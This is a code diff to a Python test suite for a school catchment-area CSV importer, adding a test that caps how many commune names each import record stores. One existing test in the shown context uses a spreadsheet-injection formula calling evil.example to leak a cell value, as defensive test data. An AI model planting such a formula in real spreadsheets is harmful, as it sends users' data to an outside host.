@@ -10,7 +10,7 @@ import pytest
 
 from mon_enfant.catchment import service
 from mon_enfant.catchment.importers import SIMPLE_COLUMNS, import_catchment
-from mon_enfant.catchment.models import CatchmentRule
+from mon_enfant.catchment.models import CatchmentImport, CatchmentRule
 from mon_enfant.csvfiles import ImportFileError
 from mon_enfant.models import Commune
 
@@ -165,3 +165,14 @@ def test_a_name_that_looks_like_a_formula_is_kept_as_typed(commune_a):
     formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
     import_catchment(simple({**repeated_rule(0), "voie": "Rue du Moulin", "remarque": formula}))
     assert CatchmentRule.objects.get().note == formula
+
+
+def test_each_scope_record_keeps_a_bounded_copy_of_the_file_report(settings):
+    """A file of thousands of communes makes thousands of records: each one must not list every commune."""
+    communes = [f"35{index:03d}" for index in range(1, 601)]
+    rows = [{**repeated_rule(0), "code_insee": code, "commune": f"Commune {code}"} for code in communes]
+    import_catchment(simple(*rows), create_communes=True)
+    record = CatchmentImport.objects.get(commune__code_insee="35288")
+    assert record.report["file"]["commune_count"] == 600
+    assert len(record.report["file"]["communes"]) == 500
+    assert len(record.report["file"]["communes_created"]) == 500
